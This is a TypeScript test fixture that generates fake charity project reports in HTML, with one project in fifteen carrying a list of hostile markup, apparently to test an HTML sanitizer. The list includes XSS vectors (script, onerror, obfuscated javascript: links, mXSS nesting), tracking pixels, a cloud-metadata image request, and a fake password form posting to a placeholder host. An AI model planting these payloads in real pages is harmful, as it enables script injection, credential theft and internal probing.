import type { CatalogueProject } from "./project-catalogue.ts";

export interface Report {
	id: string;
	title: string | undefined;
	author: string | undefined;
	publishedAt: Date;
	content: string;
}

const AUTHORS = ["Amara Nwosu", "Daryna Kovalenko", "Rohan Iyer", "Lucía Quispe", "Tomasz Zieliński", "Grace Atieno"];
const DAY_MS = 86_400_000;
/** The date of the fixture: no report is later. */
const LAST_REPORT = Date.UTC(2026, 8, 10, 12, 0);

/** The newest first. */
export function writeReports(project: CatalogueProject, pictureUrl: (position: number) => string): Report[] {
	const { need, activities, longTermImpact, town, index: seed } = project;
	const titles = [
		"What your gifts made possible",
		`News from ${town}`,
		"A season in numbers",
		"Half-way &amp; on time",
	];
	const stepMs = Math.min(90 * DAY_MS, (LAST_REPORT - project.approvedAt.getTime()) / (project.reports + 1));
	return Array.from({ length: project.reports }, (_, index) => {
		const number = project.reports - index;
		const count = (low: number, high: number) => low + ((seed * 7 + number * 13) % (high - low + 1));
		const paragraphs = [
			`<p>Dear friends,</p>`,
			`<p>${activities} <b>Thank you</b> for being part of it.</p>`,
			`<p>${need}</p>`,
			`<h3>Since our last report</h3><ul><li>${count(3, 40)} training days with ${count(20, 400)} people</li><li>${count(2, 19)} volunteers joined us &ndash; welcome!</li><li>Rain stopped us for ${count(2, 9)} days</li></ul>`,
			project.pictures > 0 && number % 2 === 0
				? `<p><img src="${pictureUrl(1)}" alt="Our team at work" width="620"></p>`
				: "",
			`<p>${longTermImpact}<br/>More on <a href="https://www.example.org/news?from=report&amp;n=${number}">our site</a>.</p>`,
		];
		return {
			id: `${project.id}${String(number).padStart(3, "0")}`,
			title: number % 5 === 3 ? undefined : titles[(seed + number) % titles.length],
			author: number % 7 === 4 ? undefined : AUTHORS[(seed + number) % AUTHORS.length],
			publishedAt: new Date(project.approvedAt.getTime() + Math.floor((number * stepMs) / 1000) * 1000),
			content: paragraphs.join("\n") + (isHostile(project) ? hostileMarkup(number) : ""),
		};
	});
}

/** One project in fifteen is hostile. */
export const isHostile = ({ index }: CatalogueProject): boolean => index % 15 === 6;

/** Markup that must not be executed, loaded or followed; each report of a hostile project contains a share of it. */
const VECTORS: readonly string[] = [
	`<script>window.pwned = "script"</script>`,
	`<img src="x" onerror="window.pwned = 'onerror'">`,
	`<a href="javascript:window.pwned='link'">Read more</a>`,
	`<a href="  jAvaScRipt&#58;window.pwned='entity'">Read on</a>`,
	`<iframe src="https://frames.invalid/" srcdoc="<script>parent.pwned='srcdoc'</script>"></iframe>`,
	`<svg onload="window.pwned='svg'"><script>window.pwned="svg script"</script></svg>`,
	`<math><mtext><table><mglyph><style><img src=x onerror="window.pwned='mxss'"></style></mglyph></table></mtext></math>`,
	`<img src="https://tracker.invalid/pixel.gif?who=reader" width="1" height="1">`,
	`<img src="http://169.254.169.254/latest/meta-data/" alt="inside">`,
	`<form action="https://collect.invalid/"><input name="password" type="password"><button>Sign in</button></form>`,
	`<p style="position:fixed;inset:0;background:url(https://tracker.invalid/bg.png)">Covered</p>`,
	`<link rel="stylesheet" href="https://tracker.invalid/a.css"><style>body{display:none}</style>`,
	`<meta http-equiv="refresh" content="0;url=https://elsewhere.invalid/"><base href="https://elsewhere.invalid/">`,
	`<object data="data:text/html,<script>parent.pwned='object'</script>"></object><embed src="https://frames.invalid/x.swf">`,
	`<a href="data:text/html,<script>window.pwned='data'</script>" target="_blank">Picture</a>`,
	`<details open ontoggle="window.pwned='toggle'"><summary>More</summary></details><b id="__proto__" name="body">`,
	`<div><p>Never closed <b><i><u>`,
];

function hostileMarkup(number: number): string {
	return VECTORS.filter((_, index) => number === 1 || index % 3 === number % 3).join("\n");
}
